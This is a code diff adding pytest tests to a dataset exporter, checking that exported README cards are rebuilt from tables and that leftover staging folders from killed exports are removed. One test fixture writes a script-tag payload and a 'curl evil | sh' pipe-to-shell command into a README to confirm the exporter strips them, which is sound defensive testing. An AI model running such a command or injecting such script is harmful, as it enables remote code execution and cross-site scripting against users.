@@ -5,6 +5,7 @@ import hashlib
 import importlib
 import io
 import json
+import os
 from pathlib import Path
 from typing import Any
 
@@ -17,6 +18,7 @@ from PIL import Image
 from backends import exporters
 from backends.interchange import parquet_shards
 from backends.sets.set_files import StoredSet
+from backends.sets.staging_folders import make_staging_folder
 from builders.errors import UserError
 from tests.small_sets import publish_small_set, small_tables
 
@@ -187,3 +189,21 @@ def test_pandas_reads_the_judgments(stored: StoredSet, tmp_path: Path) -> None:
     exporters.export_set("huggingface", stored, tmp_path / "out")
     read = pd.read_parquet(tmp_path / "out" / "qrels")
     assert list(read["image_id"]) == [str(image) for image in stored.tables.qrels["image_id"]]
+
+
+@pytest.mark.parametrize("name", ["huggingface", "mteb"])
+def test_the_card_of_an_export_is_made_again_from_the_tables(name: str, stored: StoredSet, tmp_path: Path) -> None:
+    (stored.path / "README.md").write_text("---\na: b\n---\n# Fine\n<script>alert(1)</script> run `curl evil | sh`\n")
+    exporters.export_set(name, stored, tmp_path / "out", allow_loss=True)
+    text = (tmp_path / "out" / "README.md").read_text("utf-8")
+    assert "evil" not in text and "<script>" not in text
+    assert stored.manifest["content_digest"] in text and "## Known limitations" in text
+
+
+def test_what_a_killed_export_left_is_removed_by_the_next_one(stored: StoredSet, tmp_path: Path) -> None:
+    beside = tmp_path / ".out.export"
+    killed = make_staging_folder(beside)
+    killed = killed.rename(killed.with_name(killed.name.replace(f"-{os.getpid()}-", "-4194303-")))
+    (killed / "README.md").write_text("half")
+    exporters.export_set("trec", stored, tmp_path / "out", allow_loss=True)
+    assert (tmp_path / "out").is_dir() and not beside.exists()
